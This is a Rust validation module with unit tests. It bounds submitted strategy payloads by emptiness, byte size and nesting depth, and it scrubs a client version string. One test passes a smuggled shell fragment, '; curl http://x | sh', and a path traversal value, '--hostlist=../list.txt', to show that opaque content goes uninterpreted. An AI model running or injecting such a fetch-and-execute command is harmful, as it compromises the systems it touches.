//! Sanitation of submitted strategy payloads and free-form fields.
//!
//! The payload itself is opaque to the engine; only its shape is bounded.

use serde_json::Value;

use crate::config::ReportLimits;
use crate::error::InvalidReport;
use crate::logging::structured::LogContext;
use crate::security::pii::scrub_text;

/// Reject empty, oversized or too deeply nested strategy payloads.
pub fn check_args(
    args: &Value,
    limits: &ReportLimits,
    ctx: &LogContext,
) -> Result<(), InvalidReport> {
    if is_empty_payload(args) {
        return Err(InvalidReport::EmptyArgs);
    }

    let bytes = args.to_string().len();
    if bytes > limits.max_args_bytes {
        log::warn!(
            "{} SIZE_LIMIT_EXCEEDED type=args size={} limit={}",
            ctx,
            bytes,
            limits.max_args_bytes
        );
        return Err(InvalidReport::ArgsTooLarge {
            bytes,
            limit: limits.max_args_bytes,
        });
    }

    let depth = nesting_depth(args);
    if depth > limits.max_args_depth {
        log::warn!(
            "{} DEPTH_LIMIT_EXCEEDED type=args depth={} limit={}",
            ctx,
            depth,
            limits.max_args_depth
        );
        return Err(InvalidReport::ArgsTooDeep {
            depth,
            limit: limits.max_args_depth,
        });
    }
    Ok(())
}

/// Strip control characters and embedded PII, then truncate to `max_len` chars.
pub fn sanitize_client_version(raw: &str, max_len: usize, ctx: &LogContext) -> String {
    let printable: String = raw.chars().filter(|c| !c.is_control()).collect();
    let (scrubbed, pii) = scrub_text(printable.trim());
    if pii > 0 {
        log::debug!("{} PII_SCRUBBED field=client_version count={}", ctx, pii);
    }
    scrubbed.chars().take(max_len).collect()
}

fn is_empty_payload(args: &Value) -> bool {
    match args {
        Value::Null => true,
        Value::String(s) => s.trim().is_empty(),
        Value::Array(items) => items
            .iter()
            .all(|item| item.as_str().map_or(false, |s| s.trim().is_empty())),
        Value::Object(map) => map.is_empty(),
        _ => false,
    }
}

/// Containers count one level each; scalars are depth 0.
fn nesting_depth(value: &Value) -> usize {
    match value {
        Value::Array(items) => 1 + items.iter().map(nesting_depth).max().unwrap_or(0),
        Value::Object(map) => 1 + map.values().map(nesting_depth).max().unwrap_or(0),
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn ctx() -> LogContext {
        LogContext::new("test-req")
    }

    #[test]
    fn test_clean_args_accepted() {
        let limits = ReportLimits::default();
        let args = json!(["--dpi-desync=fake,split2", "--dpi-desync-ttl=5"]);
        assert_eq!(check_args(&args, &limits, &ctx()), Ok(()));
        // Opaque content is not interpreted.
        let odd = json!(["--wf-tcp=443", "; curl http://x | sh", "--hostlist=../list.txt"]);
        assert_eq!(check_args(&odd, &limits, &ctx()), Ok(()));
        assert_eq!(check_args(&json!({"mode": "fake"}), &limits, &ctx()), Ok(()));
    }

    #[test]
    fn test_empty_args_rejected() {
        let limits = ReportLimits::default();
        for args in [json!(null), json!([]), json!(["", "  "]), json!({}), json!(" ")] {
            assert_eq!(
                check_args(&args, &limits, &ctx()),
                Err(InvalidReport::EmptyArgs)
            );
        }
    }

    #[test]
    fn test_oversized_args_rejected() {
        let limits = ReportLimits {
            max_args_bytes: 32,
            ..Default::default()
        };
        let args = json!(["--hostlist=".to_string() + &"x".repeat(64)]);
        assert!(matches!(
            check_args(&args, &limits, &ctx()),
            Err(InvalidReport::ArgsTooLarge { limit: 32, .. })
        ));
    }

    #[test]
    fn test_deep_args_rejected() {
        let limits = ReportLimits {
            max_args_depth: 2,
            ..Default::default()
        };
        let args = json!({"a": {"b": {"c": 1}}});
        assert_eq!(
            check_args(&args, &limits, &ctx()),
            Err(InvalidReport::ArgsTooDeep { depth: 3, limit: 2 })
        );
    }

    #[test]
    fn test_sanitize_client_version() {
        assert_eq!(
            sanitize_client_version(" podsos/1.4.2\u{0}\n", 64, &ctx()),
            "podsos/1.4.2"
        );
        assert_eq!(sanitize_client_version("abcdef", 3, &ctx()), "abc");
        assert_eq!(
            sanitize_client_version("built-by me@host.org", 64, &ctx()),
            "built-by [EMAIL]"
        );
    }
}
